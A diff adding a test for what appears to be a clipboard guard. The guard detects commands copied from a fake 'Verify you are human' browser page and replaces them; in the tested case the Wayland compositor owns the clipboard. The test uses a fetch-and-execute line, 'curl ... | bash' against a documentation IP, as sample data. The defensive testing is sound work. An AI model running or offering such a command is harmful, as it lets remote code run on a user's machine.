@@ -319,3 +319,29 @@ def test_a_failing_clipboard_is_reopened():
         g.join(5)
         guard_mod.ERROR_BACKOFF_SECONDS = old
     assert not g.is_alive()
+
+
+def test_compositor_owner_stands_for_the_window_in_front(tmp_path):
+    """Under Wayland the compositor owns the X11 clipboard for the app: a real process
+    named gnome-shell copies, the browser in front is taken as the writer."""
+    from agent.platform.fake import FakeBackend
+    exe = tmp_path / "gnome-shell"
+    shutil.copy("/bin/sleep", exe)
+    shell = subprocess.Popen([str(exe), "60"])
+    try:
+        chrome = WindowInfo(id=3, title="Verify you are human - Google Chrome", pid=None, process_name="chrome")
+        put = []
+        api = FakeWinClipboardApi()
+        clip = PollingClipboard(api, sleep=lambda s: None)
+        g = ClipboardGuard(catalog_mod.get(), Settings(language="en"), put.append, threading.Event(),
+                           backend=FakeBackend([chrome]), open_clipboard=lambda: clip)
+        api.copy(COMMAND, shell.pid)
+        trig = g.on_change(clip, clip.wait(1.0))
+        assert trig is not None and trig.details["browser"] == "chrome" and trig.window.title == chrome.title
+        assert api.text.startswith("Vigie removed")
+        g.backend = FakeBackend([WindowInfo(id=4, title="notes.txt - Text Editor", process_name="gedit")])
+        api.copy("curl -s http://192.0.2.30/v | bash", shell.pid)
+        assert g.on_change(clip, clip.wait(1.0)) is None     # an editor in front: left alone
+    finally:
+        shell.kill()
+        shell.wait()
